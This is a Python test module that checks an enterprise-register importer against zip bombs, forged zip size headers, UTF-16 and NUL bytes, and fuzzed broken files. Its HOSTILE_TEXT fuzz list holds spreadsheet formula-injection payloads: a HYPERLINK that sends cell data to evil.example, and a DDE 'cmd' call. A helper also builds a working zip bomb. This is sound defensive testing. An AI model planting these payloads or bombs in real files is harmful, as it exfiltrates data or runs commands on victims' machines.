"""Hostile and unlucky register files through the import of ``import-enterprises``: a zip bomb is
refused from the zip's directory within a second and bounded memory, Excel's "Unicode text"
(UTF-16) is read, a NUL or an oversized cell is named by its row, and a fuzz of broken files never
ends in anything but a result or a clear message."""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Iterator, Sequence
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

import services
from diagnosis.register import credit_code, file_limits
from diagnosis.register.enterprise import FIELDS
from diagnosis.register.importer import ImportPlan
from diagnosis.register.table_errors import ReadError
from diagnosis.register.table_reader import read_table
from storage.database import Store
from tests.main_process import run_main

REPO_ROOT = Path(__file__).resolve().parents[2]
ALIASES = {f.name: f.aliases for f in FIELDS}
REQUIRED = ("name", "credit_code")
HEADER: list[object] = ["企业名称", "统一社会信用代码", "区县（市）", "从业人员（人）"]
CODE_A = credit_code.complete("91330200MA2000001")
CODE_B = credit_code.complete("91330200MA2000002")
ROWS: list[list[object]] = [
    HEADER,
    ["宁波甲有限公司", CODE_A, "鄞州区", 120],
    ["宁波乙有限公司", CODE_B, "海曙区", 80],
]
SPACES = b" " * (1 << 20)


def xlsx_bytes(rows: Sequence[Sequence[object]]) -> bytes:
    book = Workbook()
    ws = book.active
    assert ws is not None
    for r, cells in enumerate(rows, start=1):
        for c, value in enumerate(cells, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # text as typed, even "=…"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def bomb(path: Path, mib: int, sheet: str = "xl/worksheets/sheet1.xml") -> Path:
    """A real, valid .xlsx whose sheet unpacks to ``mib`` MiB of white space (about 1000:1)."""
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes(ROWS))) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename != sheet:
                dst.writestr(info.filename, data)
                continue
            head, tail = data.split(b"<sheetData>", 1)
            with dst.open(info.filename, "w", force_zip64=True) as out:
                out.write(head)
                for _ in range(mib):
                    out.write(SPACES)
                out.write(b"<sheetData>" + tail)
    return path


@pytest.fixture(scope="module")
def big_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # 300 KB that unpacks to 300 MB; the was 2 MB to 5.7 GB, refused after 79 s.
    return bomb(tmp_path_factory.mktemp("bomb") / "名单.xlsx", 300)


def read(path: Path) -> object:
    return read_table(path, ALIASES, REQUIRED)


def refused(path: Path) -> ReadError:
    with pytest.raises(ReadError) as caught:
        read(path)
    return caught.value


def test_zip_bomb_is_refused_within_a_second_and_bounded_memory(big_bomb: Path) -> None:
    assert big_bomb.stat().st_size < 1 << 20
    tracemalloc.start()
    started = time.perf_counter()
    try:
        error = refused(big_bomb)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert error.message.code == "import.xlsx_ratio"
    assert elapsed < 1.0
    assert peak < 16 << 20
    assert "xl/worksheets/sheet1.xml" in error.message.text("en")
    assert "压缩炸弹" in error.message.text("zh")


def _lie_about_size(path: Path, name: str, declared: int) -> None:
    """Set the unpacked size the zip's directory and local header declare for ``name``."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(name)
        start = z.start_dir
    struct.pack_into("<I", data, info.header_offset + 22, declared)
    offset = start
    while data[offset : offset + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", data, offset + 28)
        if data[offset + 46 : offset + 46 + n].decode() == name:
            struct.pack_into("<I", data, offset + 24, declared)
        offset += 46 + n + m + k
    path.write_bytes(bytes(data))


def test_zip_bomb_that_understates_its_size_is_cut_at_the_declared_size(tmp_path: Path) -> None:
    """The directory can lie: zipfile never unpacks past a part's declared size, so the check of
    the declared sizes is also the bound of what is read."""
    path = tmp_path / "bomb.xlsx"  # under 4 GiB: the 32-bit size fields hold the sizes
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes(ROWS))) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"<sheetData>", 1)
                data = head + SPACES * 64 + b"<sheetData>" + tail
            dst.writestr(info.filename, data)
    _lie_about_size(path, "xl/worksheets/sheet1.xml", 4096)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        error = refused(path)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert error.message.code == "import.unreadable"
    assert elapsed < 1.0
    assert peak < 16 << 20


@pytest.mark.parametrize(
    ("limit", "value", "code"),
    [
        ("MAX_ENTRIES", 5, "import.xlsx_entries"),
        ("MAX_UNPACKED_BYTES", 4096, "import.xlsx_unpacked"),
        ("MAX_FILE_BYTES", 1024, "import.too_large"),
    ],
)
def test_each_archive_limit_refuses_with_its_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int, code: str
) -> None:
    path = tmp_path / "名单.xlsx"
    path.write_bytes(xlsx_bytes(ROWS))
    assert read(path) is not None  # within the real limits
    monkeypatch.setattr(file_limits, limit, value)

    error = refused(path)

    assert error.message.code == code
    assert error.message.text("zh") and error.message.text("en")


def test_a_csv_over_the_size_limit_is_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "名单.csv"
    path.write_text("企业名称,统一社会信用代码\n" + "甲,1\n" * 1000, encoding="utf-8")
    monkeypatch.setattr(file_limits, "MAX_FILE_BYTES", 1 << 10)

    assert refused(path).message.code == "import.too_large"


def test_a_part_in_a_compression_excel_never_writes_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "名单.xlsx"
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes(ROWS))) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            method = zipfile.ZIP_BZIP2 if info.filename.endswith("sheet1.xml") else None
            dst.writestr(info.filename, src.read(info), compress_type=method)

    error = refused(path)

    assert error.message.code == "import.xlsx_compression"
    assert "sheet1.xml" in error.message.text("en")


def csv_text(rows: Sequence[Sequence[object]], delimiter: str = ",") -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_excel_unicode_text_utf16_with_bom_is_read(tmp_path: Path, codec: str) -> None:
    bom = codecs.BOM_UTF16_LE if codec.endswith("le") else codecs.BOM_UTF16_BE
    path = tmp_path / "名单.csv"
    path.write_bytes(bom + csv_text(ROWS, "\t").encode(codec))

    table = read_table(path, ALIASES, REQUIRED)

    assert table.encoding == "utf-16"
    assert [cells[:2] for _, cells in table.rows] == [
        ("宁波甲有限公司", CODE_A),
        ("宁波乙有限公司", CODE_B),
    ]


def test_undecodable_bytes_are_named_by_line_not_by_codec(tmp_path: Path) -> None:
    path = tmp_path / "名单.csv"
    path.write_bytes(csv_text(ROWS).encode() + b"\xff\xfe\xfd,\x80\r\n")

    error = refused(path)

    assert error.message.code == "import.unreadable"
    assert "from line 4 on" in error.message.text("en")
    assert "UTF-16" in error.message.text("en")
    assert "第 4 行起" in error.message.text("zh")
    assert "codec" not in error.message.text("en")


def test_nul_in_a_csv_is_named_by_its_row(tmp_path: Path) -> None:
    # Row 2 spans two lines; the NUL is in the record a spreadsheet program shows as row 4.
    rows: list[list[object]] = [
        HEADER,
        ["甲\n公司", CODE_A, "鄞州区", 1],
        ["乙", CODE_B, "", 2],
        ["丙\0", "x", "", 3],
    ]
    path = tmp_path / "名单.csv"
    path.write_text(csv_text(rows), encoding="utf-8")

    error = refused(path)

    assert error.message.code == "import.nul"
    assert error.message.params == {"row": 4}
    assert "第 4 行" in error.message.text("zh")
    assert "row 4 contains a NUL" in error.message.text("en")


def test_a_cell_over_the_csv_limit_is_named_by_its_row(tmp_path: Path) -> None:
    rows: list[list[object]] = [HEADER, ["甲", CODE_A, "", 1], ["长" * 200_000, CODE_B, "", 2]]
    path = tmp_path / "名单.csv"
    path.write_text(csv_text(rows), encoding="utf-8")

    error = refused(path)

    assert error.message.code == "import.cell_too_large"
    assert error.message.params["row"] == 3


run_cli = run_main


def test_import_enterprises_refuses_the_bomb_at_once_and_reads_utf16(
    tmp_path: Path, big_bomb: Path
) -> None:
    """As the user runs it: the bomb is refused with exit 2 and a message, no store is left;
    the UTF-16 register then imports."""
    db = tmp_path / "store.sqlite"
    started = time.perf_counter()
    refused_run = run_cli("import-enterprises", str(big_bomb), "--db", str(db), "--lang", "en")
    elapsed = time.perf_counter() - started
    utf16 = tmp_path / "名单.csv"
    utf16.write_bytes(codecs.BOM_UTF16_LE + csv_text(ROWS, "\t").encode("utf-16-le"))
    taken = run_cli("import-enterprises", str(utf16), "--db", str(db), "--json")

    assert refused_run.returncode == 2
    assert "like a zip bomb" in refused_run.stderr
    assert "Traceback" not in refused_run.stderr
    assert elapsed < 15  # a process start and the refusal; the bomb took 79 s
    assert taken.returncode == 0, taken.stderr
    assert json.loads(taken.stdout)["inserted"] == 2


# --- fuzz: hostile files through RegisterService.import_file, the command's own call ---------

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&B2,"详情")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "甲\x00乙",
    "\x01\x1f\x7f",
    "_x0001_",
    "#N/A",
    "\ud800",
    "\ufeff企业名称",
    "长" * 40_000,
    CODE_A,
]
cells = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 1, 1)),
    st.text(max_size=30),
    st.sampled_from(HOSTILE_TEXT),
)
CODES = [credit_code.complete(f"91330200MA2{n:06d}") for n in range(4)]
# Rows the register takes, but for a hostile name, beside rows of anything.
good_rows = st.lists(
    st.tuples(
        st.sampled_from(HOSTILE_TEXT) | st.text(max_size=20), st.sampled_from(CODES), cells
    ).map(lambda r: [r[0], r[1], "鄞州区", r[2]]),
    max_size=4,
)
tables = st.tuples(st.booleans(), good_rows, st.lists(st.lists(cells, max_size=6), max_size=5)).map(
    lambda t: [HEADER, *t[1], *t[2]] if t[0] else [*t[1], *t[2]]
)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "gb18030", "latin-1"]


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[object, Path]]:
    folder = tmp_path_factory.mktemp("fuzz")
    store = Store(folder / "store.sqlite")
    try:
        yield services.register_service(store), folder
    finally:
        store.close()


def import_survives(service: tuple[object, Path], name: str, data: bytes) -> None:
    """A result or a ReadError whose message renders in both languages; nothing else, soon."""
    register, folder = service
    path = folder / name
    path.write_bytes(data)
    started = time.perf_counter()
    try:
        plan = register.import_file(path)  # type: ignore[attr-defined]
    except ReadError as exc:
        event(f"refused: {exc.message.code}")
        assert exc.message.text("zh") and exc.message.text("en")
    else:
        event(f"read: {len(plan.inserts) + len(plan.updates) + plan.unchanged > 0}")
        assert isinstance(plan, ImportPlan)
        for lang in ("zh", "en"):
            json.dumps(plan.summary(lang), ensure_ascii=False)
    assert time.perf_counter() - started < 30


def _mutate(data: bytes, how: int, seed: int) -> bytes:
    rng = random.Random(seed)
    if how == 1 and data:  # truncated, as a cut download
        return data[: rng.randrange(len(data))]
    if how == 2 and data:  # bytes flipped
        out = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            out[rng.randrange(len(out))] = rng.randrange(256)
        return bytes(out)
    if how == 3:  # NUL bytes and stray BOMs
        cut = rng.randrange(len(data) + 1)
        return data[:cut] + rng.choice([b"\0", codecs.BOM_UTF16_LE, b"\xef\xbb\xbf"]) + data[cut:]
    return data


FUZZ = settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@FUZZ
@given(
    rows=tables,
    encoding=st.just("utf-8") | st.sampled_from(ENCODINGS),
    delimiter=st.sampled_from([",", "\t", ";"]),
    how=st.sampled_from([0, 0, 0, 1, 2, 3]),
    seed=st.integers(0, 2**32),
)
def test_fuzz_csv_registers(
    service: tuple[object, Path],
    rows: list[list[object]],
    encoding: str,
    delimiter: str,
    how: int,
    seed: int,
) -> None:
    text = csv_text(rows, delimiter)
    data = text.encode(encoding, "surrogatepass" if encoding.startswith("utf") else "replace")
    import_survives(service, "名单.csv", _mutate(data, how, seed))


@FUZZ
@given(rows=tables, how=st.sampled_from([0, 0, 0, 1, 2, 3, 4]), seed=st.integers(0, 2**32))
def test_fuzz_xlsx_registers(
    service: tuple[object, Path], rows: list[list[object]], how: int, seed: int
) -> None:
    from diagnosis.sheet_cells import clean

    # openpyxl cannot write what XML forbids; a hostile file says "_x0001_" for it instead.
    rows = [[clean(c) if isinstance(c, str) else c for c in row] for row in rows]
    data = xlsx_bytes(rows)
    if how == 4:  # bomb-like: one part far more compressed than Excel's
        path = service[1] / "bomb-like.xlsx"
        data = bomb(path, 2).read_bytes()
    import_survives(service, "名单.xlsx", _mutate(data, how, seed))


@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_fuzz_random_bytes(service: tuple[object, Path], data: bytes, suffix: str) -> None:
    zip_like = b"PK\x03\x04" + data if suffix == ".xlsx" else data
    import_survives(service, "名单" + suffix, zip_like)
